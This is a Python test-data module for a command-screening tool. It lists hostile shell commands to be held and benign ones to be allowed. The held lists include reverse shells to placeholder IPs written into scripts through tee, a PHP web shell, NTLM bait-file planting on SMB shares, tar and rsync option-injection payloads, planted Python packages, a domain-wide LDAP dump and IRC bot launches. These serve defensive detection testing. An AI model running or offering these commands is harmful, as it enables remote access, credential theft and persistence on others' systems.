"""Issue 18's known leftover misses, closed as classes (left21, session 19).

The leftovers came from earlier sessions' measured sources (honeypot sessions, HTB and OSCP notes); a
fresh held-out source (blankshiro/blankshiro.github.io's HTB write-ups, kept outside the repository in
/work/realworld/left21 on the machine that measured it) was measured at first sight and at the end. The
classes:

- a program run from another account's home (``sudo /home/bob/tools/x``): a planted binary, asked;
- what is piped into ``tee`` (``echo CMD | sudo tee -a FILE``) read as written to tee's files, as a
  here-document is: a remote shell written that way is blocked;
- bait-file generators (ntlm_theft) and bait files (``.scf``, ``.url``, ``.lnk``, ``.library-ms``,
  ``desktop.ini``) put on a share by ``smbmap --upload``, ``curl -T smb://`` or a copy into a mounted
  share; weevely by name;
- an option injection written as data (``echo '" --exec=!/tmp/x.sh "' > leave_requests.csv``,
  ``--checkpoint-action=exec=``, ``-e sh x``): the text a job later passes as arguments runs a command;
- an installed application's requirements file written (asked) and modules written into the system
  Python's packages (asked as a privileged install; a .pth there stays blocked);
- an authenticated ``ldapsearch`` of a whole Windows domain from its root with a logon name (asked);
- a script run with an IRC server or channel to join (``perl bot.pl IP 6667 '#chan'``): a bot (asked).

The commands here are variants written for the tests, not the measured lines.
"""

from __future__ import annotations

HELD = {
    "program-in-another-accounts-home": [
        "sudo /home/alice/tools/backup",
        "/home/bob/.local/bin/helper --run",
        "sudo -u root /home/mallory/bin/sync-db",
        "cd /tmp && /home/eve/scripts/rotate.sh",
        "python3 /home/carol/jobs/cleanup.py --all",
        "doas /Users/frank/bin/report",
    ],
    "text-piped-into-tee": [
        "echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' | tee /var/www/html/health.sh",
        "printf 'nc -e /bin/sh 192.0.2.7 9001\\n' | sudo tee -a /opt/jobs/nightly.sh",
        'echo "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 443 >/tmp/f" | tee -a run.sh',
        "echo 'socat exec:\"bash -li\",pty tcp:198.51.100.3:8443' | tee /srv/app/start.sh >/dev/null",
        "echo '<?php system($_GET[\"c\"]); ?>' | sudo tee /var/www/html/status.php",
    ],
    "ntlm-bait-files": [
        "python3 ntlm_theft.py -g all -s 10.10.14.3 -f meeting",
        "./ntlm_theft.py --generate lnk --server 192.0.2.5 --filename q3",
        "smbmap -H 10.10.10.10 -u guest --upload pwn.scf 'Share/pwn.scf'",
        "smbmap -H 192.0.2.9 -u bob -p pw --upload ./@inventory.url 'Users\\Public\\@inventory.url'",
        "curl -T evil.url smb://10.10.10.10/Public/ -u guest:",
        "curl --upload-file Documents.library-ms -u 'WORK\\bob:pw' smb://192.0.2.20/dept/",
        "sudo cp pwn.scf /mnt/Share/",
        "cp desktop.ini /media/backup/Users/Public/",
        "weevely generate s3cr3t agent.php",
    ],
    "option-injection-written-as-data": [
        "echo '\" --exec=!/tmp/x.sh \"' > leave_requests.csv",
        "echo '--checkpoint=1 --checkpoint-action=exec=sh shell.sh' > files.txt",
        "printf -- '-e sh /tmp/x.sh\\n' > /var/www/data/hosts.txt",
        "echo 'alice,--use-compress-program=/dev/shm/p' >> /srv/export/users.csv",
        "echo '--to-command=sh -c id' | tee -a /var/backups/list.txt",
        "echo ' -o ProxyCommand=/tmp/r.sh' >> targets.txt",
    ],
    "planted-python-code": [
        "echo ./evil >> /srv/webapp/requirements.txt",
        "cd /srv/webapp && echo 'git+https://198.51.100.8/x.git' >> requirements.txt",
        "echo 'flask==99.0' | sudo tee -a /opt/portal/requirements-prod.txt",
        "cp helper.py /usr/lib/python3/dist-packages/requests/__init__.py",
        "sudo tee /usr/lib/python3.11/json/tool.py < payload.py",
        "echo 'import os' > /usr/local/lib/python3.10/dist-packages/sitehook.py",
    ],
    "domain-dump-with-an-account": [
        "ldapsearch -x -H ldap://10.10.10.161 -D 'svc@htb.local' -w 'P@ss' -b 'DC=htb,DC=local'",
        "ldapsearch -x -H ldap://dc01.corp.local -D 'CORP\\svc_sql' -w 'Summer2024' -b 'dc=corp,dc=local'"
        " '(objectClass=user)' sAMAccountName description",
        "ldapsearch -H ldaps://192.0.2.10 -D support@example.org -W -b DC=example,DC=org",
    ],
    "irc-bot-started": [
        "perl bot.pl 192.0.2.5 6667 '#chan'",
        "perl x.pl irc.undernet.org",
        "perl /tmp/.s/ps.pl irc.example.net 6669",
        "python3 b.py 203.0.113.9 6697 '#ops'",
        "./kaiten irc.example.org '#x'",
    ],
}

ALLOWED = [
    "sudo /home/dev/bin/mytool",
    "/home/dev/project/bin/run --fast",
    "ls /home/alice/tools",
    "/home/linuxbrew/.linuxbrew/bin/brew install jq",
    "echo hello | tee out.txt",
    "echo 'export PATH=$PATH:/opt/go/bin' | tee -a notes/env.sh",
    "git log --oneline | tee log.txt",
    "cp icons/desktop.ini build/",
    "cp report.pdf /mnt/backup/",
    "curl -T build.zip sftp://files.example.com/upload/",
    "smbclient //nas/projects -U me -c 'put build.zip'",
    "echo 'tar --use-compress-program=zstd -cf out.tar.zst src' >> scripts/pack.sh",
    "echo '-e git+https://github.com/org/pkg.git#egg=pkg' >> requirements.txt",
    "echo '--use-compress-program=pigz' > .tar-options",
    "echo 'id,name' > users.csv",
    "echo requests >> requirements.txt",
    "echo 'git+https://github.com/org/lib.git' >> requirements-dev.txt",
    "cp requirements.txt /tmp/build/",
    "pip install --user requests",
    "cat /usr/lib/python3/dist-packages/requests/__init__.py",
    "ldapsearch -x -H ldap://10.0.0.1 -D 'cn=admin,dc=example,dc=org' -w secret -b 'dc=example,dc=org'",
    "ldapsearch -x -H ldap://localhost -D 'svc@example.org' -w p -b 'DC=example,DC=org'",
    "ldapsearch -x -H ldap://ldap.example.com -D alice@example.com -w pw -b 'ou=people,dc=example,dc=com'",
    "perl script.pl input.txt",
    "python3 server.py 127.0.0.1 6667",
    "perl -e 'print 1'",
    "node bot.js --token-file .token",
]
